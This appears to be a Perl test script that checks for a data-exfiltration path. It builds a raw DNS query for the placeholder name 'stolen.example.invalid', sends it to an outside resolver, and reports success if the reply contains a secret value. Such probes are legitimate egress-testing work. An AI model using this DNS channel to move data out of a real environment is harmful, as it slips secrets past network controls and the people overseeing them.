# Asks a resolver outside for a name, which would carry anything out.
use strict;
use warnings;
use lib $ENV{PROGRAMS};
use Attack;
use Socket;

socket(my $socket, AF_INET, SOCK_DGRAM, 0) or stopped('making a socket');
my $question = pack('n6', 7, 0x100, 1, 0, 0, 0) . join('', map { pack('C/a*', $_) } qw(stolen example invalid)) . pack('Cnn', 0, 1, 1);
send($socket, $question, 0, pack_sockaddr_in(53, inet_aton(want('OTHER_HOST')))) // stopped('sending');
my $ready = '';
vec($ready, fileno($socket), 1) = 1;
select($ready, undef, undef, 1) > 0 or stopped('no answer');
defined recv($socket, my $answer, 512, 0) or stopped('receiving');
succeeded('the resolver answered') if index($answer, want('SECRET')) >= 0;
stopped('it said something else');
